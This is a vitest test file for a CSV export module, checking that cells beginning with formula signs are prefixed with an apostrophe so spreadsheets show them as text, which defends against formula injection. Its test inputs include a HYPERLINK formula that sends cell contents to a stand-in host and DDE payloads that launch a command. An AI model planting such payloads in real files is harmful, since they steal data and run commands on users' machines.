import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralizeFormula, toCsv } from '../../../src/lib/export/csv.ts';
import type { Field } from '../../../src/lib/export/fields.ts';

interface Row {
  title: string;
  publisher: string | null;
  lon: number;
  places: string[];
}

const FIELDS: Field<Row>[] = [
  { name: 'title', type: 'string', description: 'العنوان' },
  { name: 'publisher', type: 'string', description: 'الناشر' },
  { name: 'lon', type: 'number', description: 'خط الطول' },
  { name: 'places', type: 'list', description: 'الأماكن' },
];

describe('spreadsheet formulas in CSV cells', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"سرت")'],
    ['+1+cmd|\' /C calc\'!A0'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('starts %j with «\'», so a spreadsheet shows it as text', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('leaves text that starts otherwise as it is, a formula sign inside it included', () => {
    for (const text of ['سقوط سرت = نهاية التنظيم؟', 'رويترز', "'مقتبس", ' =1+1', '']) expect(neutralizeFormula(text)).toBe(text);
  });

  it('writes a title, a publisher and a list that start with a formula sign as text, and numbers as numbers', () => {
    const csv = toCsv(FIELDS, [{ title: '=HYPERLINK("https://evil.example/","انقر")', publisher: '@رويترز', lon: -3.5, places: ['-sirte', 'derna'] }]);
    const [header, row] = parse(csv.slice(1), { relaxQuotes: false }) as string[][];
    expect(header).toEqual(['title', 'publisher', 'lon', 'places']);
    expect(row).toEqual(['\'=HYPERLINK("https://evil.example/","انقر")', "'@رويترز", '-3.5', "'-sirte;derna"]);
  });
});
